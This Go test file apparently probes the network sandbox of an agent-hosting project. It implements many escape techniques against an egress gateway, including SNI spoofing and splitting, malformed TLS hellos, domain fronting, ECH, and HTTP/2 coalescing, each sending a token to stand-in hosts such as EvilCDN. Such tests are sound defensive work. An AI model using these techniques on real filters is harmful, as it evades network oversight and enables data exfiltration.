//go:build linux && escape

package main

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// overTLS returns the techniques that reach a shared address through an allowed name and
// request another name there.
func overTLS() map[string]func(*attempt) {
	evil := func(a *attempt) string { return a.token + "." + plan.EvilCDN }
	hand := func(hello func(a *attempt) []byte) func(*attempt) {
		return func(a *attempt) {
			for _, at := range []struct {
				name string
				port int
			}{{plan.Allowed, 443}, {plan.Alt, plan.AltTLS}} {
				a.send(at.name, at.port, string(hello(a)))
			}
		}
	}
	return map[string]func(*attempt){
		"sni-wrong":  func(a *attempt) { a.https(plan.Allowed, 443, plan.EvilCDN, plan.EvilCDN) },
		"sni-front":  func(a *attempt) { a.https(plan.Allowed, 443, plan.EvilCDN, plan.Allowed) },
		"sni-none":   func(a *attempt) { a.https(plan.Allowed, 443, "", plan.EvilCDN) },
		"sni-rule":   func(a *attempt) { a.https(plan.Alt, plan.AltTLS, plan.EvilCDN, plan.EvilCDN) },
		"sni-port80": func(a *attempt) { a.send(plan.Allowed, 80, string(clientHello{names: []string{evil(a)}}.record())) },
		"sni-split":  sniSplit,
		"sni-records": hand(func(a *attempt) []byte {
			// One message in many records, one byte each.
			var out []byte
			for _, b := range (clientHello{names: []string{evil(a)}}).message() {
				out = append(out, 22, 3, 1, 0, 1, b)
			}
			return out
		}),
		"sni-two":      hand(func(a *attempt) []byte { return clientHello{names: []string{plan.Allowed, evil(a)}}.record() }),
		"sni-two-evil": hand(func(a *attempt) []byte { return clientHello{names: []string{evil(a), plan.Allowed}}.record() }),
		"sni-twice": hand(func(a *attempt) []byte {
			return clientHello{names: []string{plan.Allowed}, last: sniExtension(evil(a))}.record()
		}),
		"sni-nul": hand(func(a *attempt) []byte {
			return clientHello{names: []string{plan.Allowed + "\x00." + evil(a)}}.record()
		}),
		"sni-dot":    hand(func(a *attempt) []byte { return clientHello{names: []string{evil(a) + "."}}.record() }),
		"sni-type":   hand(func(a *attempt) []byte { return clientHello{names: []string{evil(a)}, kind: 7}.record() }),
		"sni-grease": hand(func(a *attempt) []byte { return clientHello{names: []string{evil(a)}, grease: true}.record() }),
		"sni-large":  hand(func(a *attempt) []byte { return clientHello{names: []string{evil(a)}, padding: 40000}.record() }),
		"sni-second": hand(func(a *attempt) []byte {
			return append(clientHello{names: []string{evil(a)}}.record(), clientHello{names: []string{plan.Allowed}}.record()...)
		}),
		"sni-ssl2": hand(func(a *attempt) []byte { return ssl2(a.token) }),
		"sni-alert": hand(func(a *attempt) []byte {
			return append([]byte{21, 3, 1, 0, 2, 1, 0}, clientHello{names: []string{evil(a)}}.record()...)
		}),
		"sni-appdata": hand(func(a *attempt) []byte { return append([]byte{23, 3, 3, 0, byte(len(a.token))}, a.token...) }),
		"sni-empty": hand(func(a *attempt) []byte {
			return append([]byte{22, 3, 1, 0, 0}, clientHello{names: []string{evil(a)}}.record()...)
		}),
		"ech": echInner,
		"ech-hand": hand(func(a *attempt) []byte {
			return clientHello{names: []string{plan.Allowed}, first: extension(0xfe0d, echOuter(a.token))}.record()
		}),
		"ech-last": hand(func(a *attempt) []byte {
			return clientHello{names: []string{plan.Allowed}, last: extension(0xfe0d, []byte(a.token))}.record()
		}),
		"tls-plain-http": func(a *attempt) { a.send(plan.Allowed, 443, a.get(plan.EvilCDN)) },
		"tls-not":        func(a *attempt) { a.send(plan.Allowed, 443, a.token+"\n"); a.send(plan.Allowed, 443, "\x00"+a.token) },
	}
}

// tlsClient connects and performs the handshake. It verifies no certificate, because
// the pretend internet signs its own.
func (a *attempt) tlsClient(name string, port int, config *tls.Config) (*tls.Conn, error) {
	raw, err := a.connect(name, port)
	if err != nil {
		return nil, err
	}
	return handshake(raw, config)
}

func handshake(raw net.Conn, config *tls.Config) (*tls.Conn, error) {
	config.InsecureSkipVerify = true
	_ = raw.SetDeadline(time.Now().Add(connectTime)) // the handshake reports an error
	c := tls.Client(raw, config)
	if err := c.Handshake(); err != nil {
		raw.Close()
		return nil, err
	}
	return c, nil
}

// dribble writes one byte at a time, each in its own segment.
type dribble struct{ *net.TCPConn }

func (d dribble) Write(b []byte) (int, error) {
	for i := range b {
		if _, err := d.TCPConn.Write(b[i : i+1]); err != nil {
			return i, err
		}
	}
	return len(b), nil
}

func sniSplit(a *attempt) {
	raw, err := a.connect(plan.Allowed, 443)
	if err != nil {
		say("tls: %v", err)
		return
	}
	defer raw.Close()
	_ = raw.SetNoDelay(true) // Go's default; the segments depend on it
	c, err := handshake(dribble{raw}, &tls.Config{ServerName: plan.EvilCDN})
	if err != nil {
		say("tls: %v", err)
		return
	}
	a.overTLS(c, plan.EvilCDN, "/"+a.token)
}

// echInner puts the forbidden name where only the server can read it.
func echInner(a *attempt) {
	c, err := a.tlsClient(plan.Allowed, 443, &tls.Config{
		ServerName: plan.EvilCDN, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: a.ech,
		EncryptedClientHelloRejectionVerify: func(tls.ConnectionState) error { return nil },
	})
	if err != nil {
		say("ech: %v", err)
		return
	}
	defer c.Close()
	say("ech accepted: %v", c.ConnectionState().ECHAccepted)
	a.overTLS(c, plan.EvilCDN, "/"+a.token)
}

// clientHello is a hello that no library would make.
type clientHello struct {
	names       []string
	kind        byte // of the names; 0 is a host name
	grease      bool
	padding     int
	first, last []byte // extensions
}

func (h clientHello) message() []byte {
	random := make([]byte, 64)
	_, _ = rand.Read(random) // never fails
	body := append([]byte{3, 3}, random[:32]...)
	body = append(append(body, 32), random[32:]...)
	ciphers := []uint16{0x1301, 0x1302, 0xc02b, 0xc02f}
	if h.grease {
		ciphers = append([]uint16{0x0a0a, 0x5a5a}, ciphers...)
	}
	body = binary.BigEndian.AppendUint16(body, uint16(2*len(ciphers)))
	for _, c := range ciphers {
		body = binary.BigEndian.AppendUint16(body, c)
	}
	body = append(body, 1, 0)
	var ext []byte
	if h.grease {
		ext = append(ext, extension(0x2a2a, nil)...)
		ext = append(ext, extension(0xfafa, []byte{0})...)
	}
	ext = append(ext, h.first...)
	for left := h.padding; left > 0; left -= 16000 {
		ext = append(ext, extension(uint16(60000+left/16000), make([]byte, min(left, 16000)))...)
	}
	var list []byte
	for _, name := range h.names {
		list = append(list, h.kind)
		list = append(binary.BigEndian.AppendUint16(list, uint16(len(name))), name...)
	}
	if len(list) > 0 {
		ext = append(ext, extension(0, append(binary.BigEndian.AppendUint16(nil, uint16(len(list))), list...))...)
	}
	ext = append(ext, extension(10, []byte{0, 4, 0, 29, 0, 23})...)
	ext = append(ext, extension(13, []byte{0, 6, 4, 3, 8, 4, 4, 1})...)
	ext = append(ext, extension(43, []byte{4, 3, 4, 3, 3})...)
	ext = append(ext, extension(51, append([]byte{0, 36, 0, 29, 0, 32}, random[:32]...))...)
	ext = append(ext, h.last...)
	body = append(binary.BigEndian.AppendUint16(body, uint16(len(ext))), ext...)
	n := len(body)
	return append([]byte{1, byte(n >> 16), byte(n >> 8), byte(n)}, body...)
}

// record returns the message in as few records as possible.
func (h clientHello) record() []byte {
	var out []byte
	for m := h.message(); len(m) > 0; {
		n := min(len(m), 16000)
		out = append(binary.BigEndian.AppendUint16(append(out, 22, 3, 1), uint16(n)), m[:n]...)
		m = m[n:]
	}
	return out
}

func extension(kind uint16, data []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, kind)
	return append(binary.BigEndian.AppendUint16(b, uint16(len(data))), data...)
}

func sniExtension(name string) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(len(name)+3))
	b = append(b, 0)
	return extension(0, append(binary.BigEndian.AppendUint16(b, uint16(len(name))), name...))
}

// echOuter returns an extension in the form of an encrypted hello; its content only looks
// random.
func echOuter(token string) []byte {
	b := append([]byte{0, 0, 1, 0, 1, 42, 0, 32}, make([]byte, 32)...)
	return append(binary.BigEndian.AppendUint16(b, uint16(len(token))), token...)
}

// ssl2 returns a hello from before TLS, which has no field for a name.
func ssl2(token string) []byte {
	challenge := []byte(fmt.Sprintf("%-32.32s", token))
	b := []byte{1, 3, 1, 0, 6, 0, 0, 0, byte(len(challenge)), 0, 0, 0x2f, 0, 0, 0x35}
	b = append(b, challenge...)
	return append([]byte{0x80 | byte(len(b)>>8), byte(len(b))}, b...)
}

// limits returns the techniques that no gateway can stop. They are tried to check that they
// reach only what the security model says.
func limits() map[string]func(*attempt) {
	return map[string]func(*attempt){
		"limit-upload": func(a *attempt) {
			body := "token=" + a.token
			a.send(plan.Allowed, 80, fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s", plan.Allowed, len(body), body))
			a.https(plan.Allowed, 443, plan.Allowed, plan.Allowed)
		},
		"limit-front": func(a *attempt) { a.https(plan.Allowed, 443, plan.Allowed, plan.EvilCDN) },
		"limit-h2":    coalesce,
		"limit-wild":  func(a *attempt) { a.send(a.token+"."+plan.WildZone, 80, a.get(a.token+"."+plan.WildZone)) },
		"limit-fetch": func(a *attempt) {
			a.send(plan.Allowed, 80, "GET /fetch?url=http://"+plan.EvilName+"/"+a.token+" HTTP/1.1\r\nHost: "+plan.Allowed+"\r\n\r\n")
		},
		"limit-owner": func(a *attempt) { a.send(plan.Owner, 80, a.get(plan.Owner)) },
		"limit-ssh":   func(a *attempt) { a.send(plan.AllowedSSH, 22, "SSH-2.0-client\r\n"+a.token+" any bytes at all\r\n") },
		"limit-rule":  func(a *attempt) { a.send(plan.AllowedDB, plan.DBPort, a.token) },
	}
}

// coalesce requests a second authority on one HTTP/2 connection, as browsers do when
// a certificate covers it.
func coalesce(a *attempt) {
	c, err := a.tlsClient(plan.Allowed, 443, &tls.Config{ServerName: plan.Allowed, NextProtos: []string{"h2"}})
	if err != nil {
		say("h2: %v", err)
		return
	}
	defer c.Close()
	once := make(chan net.Conn, 1) // the only connection
	once <- c
	close(once)
	client := http.Client{Timeout: connectTime, Transport: &http.Transport{
		ForceAttemptHTTP2: true,
		DialTLSContext: func(context.Context, string, string) (net.Conn, error) {
			if c, ok := <-once; ok {
				return c, nil
			}
			return nil, errors.New("a second connection")
		},
	}}
	for _, host := range []string{plan.Allowed, plan.EvilCDN} {
		req, err := http.NewRequestWithContext(context.Background(), http.MethodGet, "https://"+plan.Allowed+"/"+a.token, nil)
		if err != nil {
			say("h2: %v", err)
			return
		}
		req.Host = host // sent as :authority
		resp, err := client.Do(req)
		if err != nil {
			say("h2 %s: %v", host, err)
			return
		}
		b, err := io.ReadAll(io.LimitReader(resp.Body, 512))
		resp.Body.Close()
		say("h2 %s: %s %s %q %v", host, resp.Proto, resp.Status, b, err)
	}
}
